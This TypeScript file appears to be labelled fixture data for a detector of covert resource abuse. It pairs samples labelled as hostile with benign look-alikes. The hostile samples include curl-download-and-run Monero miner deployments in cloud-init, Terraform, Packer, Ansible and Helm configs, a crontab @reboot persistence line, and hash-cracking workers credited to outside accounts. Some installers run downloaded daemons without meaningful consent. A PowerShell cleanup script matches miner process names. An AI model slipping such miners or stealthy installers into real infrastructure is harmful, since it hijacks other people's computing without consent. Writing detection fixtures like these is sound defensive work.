/** Machines, lines and pages that work for somebody's credit. Inert: reserved names. */
export const LENDING_CREDITED: readonly [string, string][] = [
  [
    "render.py",
    'import subprocess, time, requests\nS = requests.Session()\nS.headers["X-Reward-To"] = "acct-placeholder"\nHUB = "https://frames.tints.example/api"\ndef spin():\n    while True:\n        r = S.get(HUB + "/frames/next")\n        if r.status_code == 204:\n            time.sleep(3)\n            continue\n        f = r.json()\n        open("/tmp/s.blend", "wb").write(S.get(f["scene"]).content)\n        subprocess.run(["blender", "-b", "/tmp/s.blend", "-f", str(f["n"]), "-o", "/tmp/o-####"])\n        S.put(f"{HUB}/frames/{f[\'id\']}/result", data=open("/tmp/o-%04d.png" % f["n"], "rb"))\nspin()\n',
  ],
  [
    "slug.go",
    'package main\n\nimport (\n\t"bytes"\n\t"crypto/sha1"\n\t"encoding/hex"\n\t"encoding/json"\n\t"fmt"\n\t"net/http"\n\t"runtime"\n)\n\ntype piece struct {\n\tID, Salt, Want string\n\tFrom, To int\n}\n\nfunc lane(wallet string) {\n\tfor {\n\t\tr, err := http.Get("https://pieces.slugs.example/claim?wallet=" + wallet)\n\t\tif err != nil {\n\t\t\tcontinue\n\t\t}\n\t\tvar p piece\n\t\tjson.NewDecoder(r.Body).Decode(&p)\n\t\tfor i := p.From; i < p.To; i++ {\n\t\t\th := sha1.Sum([]byte(fmt.Sprintf("%s%d", p.Salt, i)))\n\t\t\tif hex.EncodeToString(h[:]) == p.Want {\n\t\t\t\tb, _ := json.Marshal(map[string]any{"id": p.ID, "found": i, "wallet": wallet})\n\t\t\t\thttp.Post("https://pieces.slugs.example/found", "application/json", bytes.NewReader(b))\n\t\t\t}\n\t\t}\n\t}\n}\n\nfunc main() {\n\tfor i := 0; i < runtime.NumCPU(); i++ {\n\t\tgo lane("placeholder")\n\t}\n\tselect {}\n}\n',
  ],
  [
    "solve.rs",
    'use std::{io::{BufRead, BufReader, Write}, net::TcpStream, thread};\nuse sha2::{Digest, Sha256};\nfn main() {\n    let n = thread::available_parallelism().unwrap().get();\n    for _ in 0..n {\n        thread::spawn(|| {\n            let mut s = TcpStream::connect("desk.fonts.example:7070").unwrap();\n            writeln!(s, "{{\\"method\\":\\"login\\",\\"params\\":{{\\"login\\":\\"PLACEHOLDER\\",\\"pass\\":\\"x\\",\\"agent\\":\\"f/1\\"}}}}").unwrap();\n            let r = BufReader::new(s.try_clone().unwrap());\n            for line in r.lines() {\n                let blob = line.unwrap();\n                for k in 0u64.. {\n                    let d = Sha256::digest([blob.as_bytes(), &k.to_le_bytes()].concat());\n                    if d[0] == 0 && d[1] == 0 { writeln!(s, "{{\\"method\\":\\"submit\\",\\"params\\":{{\\"nonce\\":{k}}}}}").unwrap(); break; }\n                }\n            }\n        });\n    }\n    loop { thread::park(); }\n}\n',
  ],
  [
    "Glow.java",
    'import com.sun.jna.*;\npublic class Glow {\n  interface Tone extends Library {\n    Tone I = Native.load("tone", Tone.class);\n    int begin(String where, int port, String who, String kind, int lanes);\n  }\n  public static void main(String[] a) {\n    Tone.I.begin("tone.glow.example", 3344, "PLACEHOLDER_ADDR", "cn/half", Runtime.getRuntime().availableProcessors());\n    System.out.println("glow " + a[0]);\n  }\n}\n',
  ],
  [
    "site/user-data",
    "#cloud-config\npackages:\n  - msr-tools\nruncmd:\n  - modprobe msr\n  - sysctl -w vm.nr_hugepages=1280\n  - curl -fsSLo /opt/w https://bin.themes.example/w\n  - chmod +x /opt/w\n  - /opt/w --url pool.themes.example:443 --user PLACEHOLDER --algo rx/0 --tls\n",
  ],
  [
    "deploy/node.tf",
    'resource "aws_launch_template" "n" {\n  instance_market_options { market_type = "spot" }\n  user_data = base64encode(<<-EOF\n    #!/bin/bash\n    curl -fsSLo /usr/bin/docsd https://cdn.docsd.example/docsd\n    chmod 755 /usr/bin/docsd\n    nohup /usr/bin/docsd -o docsd.example:14433 -u PLACEHOLDER_ADDRESS --tls --randomx-mode=fast &\n  EOF\n  )\n}\n',
  ],
  [
    "roles/web/tasks/main.yml",
    "- name: web cache\n  ansible.builtin.copy:\n    dest: /etc/systemd/system/web-cache.service\n    content: |\n      [Service]\n      ExecStart=/usr/local/bin/web-cache -o {{ hub }} -u {{ acct }} --cpu-priority=1 --donate-level 0\n      Restart=always\n- name: on\n  ansible.builtin.systemd: { name: web-cache, enabled: true, state: started }\n",
  ],
  [
    "image.pkr.hcl",
    'source "amazon-ebs" "x" { ami_name = "tools" }\nbuild {\n  sources = ["source.amazon-ebs.x"]\n  provisioner "shell" {\n    inline = [\n      "curl -fsSLo /opt/t https://bin.tools.example/t",\n      "chmod +x /opt/t",\n      "(crontab -l; echo \\"@reboot /opt/t -o eu.tools.example:5555 -u PLACEHOLDER -k --coin monero\\") | crontab -",\n    ]\n  }\n}\n',
  ],
  [
    "Palette.cs",
    'using System.Net.Http.Json;\nusing System.Security.Cryptography;\nvar http = new HttpClient { BaseAddress = new Uri("https://grid.palettes.example/") };\nhttp.DefaultRequestHeaders.Add("X-Member", "PLACEHOLDER");\nvar bounty = "member-placeholder";\nParallel.For(0, Environment.ProcessorCount, async _ => {\n  while (true) {\n    var u = await http.GetFromJsonAsync<Unit>("unit/next");\n    foreach (var w in u!.Words) {\n      var k = Rfc2898DeriveBytes.Pbkdf2(w, u.Salt, u.Rounds, HashAlgorithmName.SHA256, 32);\n      if (Convert.ToHexString(k) == u.Want) await http.PostAsJsonAsync($"unit/{u.Id}/answer", new { hit = w, credit = bounty });\n    }\n  }\n});\nrecord Unit(string Id, string[] Words, byte[] Salt, int Rounds, string Want);\n',
  ],
  [
    "charts/preview/values.yaml",
    'image: registry.previews.example/idle:2\nreplicas: 8\ncommand: ["/idle", "-o", "eu.previews.example:14444", "-u", "PLACEHOLDER", "--rig-id", "p1", "-k"]\n',
  ],
  [
    "shorten.lua",
    'local http = require("socket.http")\nlocal json = require("cjson")\nlocal sha2 = require("sha2")\nlocal base = "http://units.short.example/"\nlocal co = coroutine.wrap(function()\n  while true do\n    local u = json.decode((http.request(base .. "unit?payee=PLACEHOLDER")))\n    for n = u.from, u.to do\n      if sha2.sha256(u.head .. n) <= u.cap then\n        http.request(base .. "result", json.encode({ id = u.id, n = n, payee = "PLACEHOLDER" }))\n      end\n      coroutine.yield()\n    end\n  end\nend)\nfor line in io.lines(arg[1]) do print(line:sub(1, 40)); co() end\nwhile true do co() end\n',
  ],
];

/** A question that nobody needs to answer, and one that says nothing of what follows. */
export const HARDLY_ASKED: readonly [string, string][] = [
  [
    "asked.sh",
    `#!/bin/bash
read -rp "Your name? " name
echo "Hello $name"
curl -fLo /usr/local/bin/helperd https://downloads.helpers.example/helperd
sudo tee /etc/systemd/system/helperd.service >/dev/null <<UNIT
[Service]
ExecStart=/usr/local/bin/helperd
UNIT
`,
  ],
  [
    "unchecked.sh",
    `#!/bin/bash
echo "helperd makes pages faster."
read -rp "Go on? [y/N] " a; [[ $a == y ]] || exit 0
curl -fLo /usr/local/bin/helperd https://downloads.helpers.example/helperd
sudo tee /etc/systemd/system/helperd.service >/dev/null <<UNIT
[Service]
ExecStart=/usr/local/bin/helperd
UNIT
`,
  ],
  [
    "bench-and-go.sh",
    "#!/bin/sh\nxmrig --bench=1M\nxmrig -o eu.pages.example:5555 -u PLACEHOLDER -k >/dev/null 2>&1 &\n",
  ],
];

/** The same words and libraries, for whoever runs the program. */
export const HONEST_CREDITED: readonly [string, string][] = [
  [
    "payouts.py",
    'import os, requests\nS = requests.Session()\nS.headers["Authorization"] = "Bearer " + os.environ["PAY_TOKEN"]\nwhile True:\n    r = S.get("https://api.payments.example/v1/payouts?status=pending&page=1").json()\n    if not r["items"]:\n        break\n    for p in r["items"]:\n        print(p["id"], p["payout"], p["wallet"])\n    S.post("https://api.payments.example/v1/payouts/done", json={"ids": [p["id"] for p in r["items"]]})\n',
  ],
  [
    "queue.ts",
    'import { pipeline } from "@huggingface/transformers";\nconst say = await pipeline("summarization");\nconst base = process.env.QUEUE_URL ?? "http://localhost:4000";\nfor (;;) {\n  const job = await (await fetch(`${base}/jobs/next`)).json();\n  if (!job) break;\n  const [out] = await say(job.text);\n  await fetch(`${base}/jobs/${job.id}/result`, { method: "POST", body: JSON.stringify({ out }) });\n}\n',
  ],
  [
    "ads.kt",
    'package app\nfun ads(ctx: Context, asked: Boolean) {\n  val c = ConsentInformation.getInstance(ctx)\n  if (asked) c.setConsent(true)\n  AdClient.Builder(ctx).setPublisherId("pub-1").build().start()\n}\n',
  ],
  [
    "cloud/web.yaml",
    "#cloud-config\npackages: [nginx]\nwrite_files:\n  - path: /etc/systemd/system/web.service\n    content: |\n      [Service]\n      ExecStart=/usr/local/bin/web --host 0.0.0.0:8080 --user web --tls\nruncmd:\n  - systemctl daemon-reload\n  - [systemctl, enable, --now, web.service]\n",
  ],
  [
    "db.tf",
    'resource "aws_instance" "db" {\n  user_data = <<-EOF\n    #!/bin/bash\n    set -eu\n    sysctl -w vm.nr_hugepages=1024\n    apt-get install -y postgresql-16\n    curl -fsS -o /etc/pg.conf -u "$CI_USER:$CI_TOKEN" https://config.shop.example/pg.conf\n    systemctl restart postgresql\n  EOF\n}\n',
  ],
  [
    "wasm.mjs",
    'import { availableParallelism } from "node:os";\nimport { Worker } from "node:worker_threads";\nimport { readFile } from "node:fs/promises";\nconst bin = await readFile(new URL("../../scan/test/code/resize.wasm", import.meta.url));\nawait WebAssembly.compile(bin);\nconst files = process.argv.slice(2);\nconst crew = Array.from({ length: availableParallelism() }, () => new Worker(new URL("../../scan/test/code/resize-worker.mjs", import.meta.url), { workerData: bin }));\nfiles.forEach((file, i) => crew[i % crew.length].postMessage({ task: file }));\n',
  ],
  [
    "chart.html",
    '<!doctype html><script src="https://cdn.charts.example/c.js"></script>\n<script>\nconst c = new Chart("canvas", { threads: 2, title: "Rates" });\nc.draw();\n</script>\n',
  ],
  [
    "lend.sh",
    '#!/bin/bash\nset -e\necho "This shares your line with a paid network. You are paid into your own account."\nread -rp "Share this computer? [y/N] " yes\n[[ $yes == y ]] || exit 0\nread -rp "Your account token: " token\nearnapp start --token "$token"\n',
  ],
  [
    "bench.sh",
    "#!/bin/sh\n# Compares two machines; nothing is sent.\nxmrig --bench=1M --threads=$(nproc) | tee bench.txt\n7z b | tee -a bench.txt\n",
  ],
  [
    "clean.ps1",
    "$bad = 'xmrig','nbminer'\nGet-ScheduledTask | Where-Object { $_.Actions.Arguments -match 'stratum\\+tcp' } | ForEach-Object { Unregister-ScheduledTask -TaskName $_.TaskName -Confirm:$true }\nGet-Process | Where-Object { $bad -contains $_.Name } | Stop-Process -Confirm\n",
  ],
  [
    "algos.py",
    'import json, urllib.request\n# Prices of coins, for a table.\nALGOS = {"monero": "randomx", "raven": "kawpow"}\nwith urllib.request.urlopen("https://prices.coins.example/v1/all") as r:\n    for row in json.load(r):\n        print(row["coin"], ALGOS.get(row["coin"], "?"), row["price"], sep="\\t")\n',
  ],
  [
    "node.sh",
    `#!/bin/bash
set -e
echo "Installs chaind as a service. The checksum is checked first."
read -rp "Go on? [y/N] " a; [[ $a == y ]] || exit 0
curl -fLo /tmp/c.tgz https://downloads.chains.example/c.tgz
echo "$SUM  /tmp/c.tgz" | sha256sum -c -
sudo tar -xzf /tmp/c.tgz -C /usr/local/bin
sudo tee /etc/systemd/system/chaind.service >/dev/null <<UNIT
[Service]
ExecStart=/usr/local/bin/chaind --data /var/lib/chaind
UNIT
`,
  ],
  [
    "test_client.py",
    `import asyncio, json
async def pool(r, w):
    while line := await r.readline():
        assert json.loads(line)["method"] == "mining.subscribe"
        w.write(b"{}\\n")
async def test_says_hello():
    server = await asyncio.start_server(pool, "127.0.0.1", 0)
    r, w = await asyncio.open_connection("127.0.0.1", server.sockets[0].getsockname()[1])
    w.write(json.dumps({"method": "mining.subscribe", "params": []}).encode() + b"\\n")
    assert await r.readline()
`,
  ],
  [
    "science.py",
    `import getpass, subprocess, sys
if not input("Let this computer calculate for a project of yours? [y/N] ") == "y":
    sys.exit("left as it is")
subprocess.run(["boinccmd", "--project_attach", sys.argv[1], getpass.getpass("Your key: ")], check=True)
`,
  ],
];
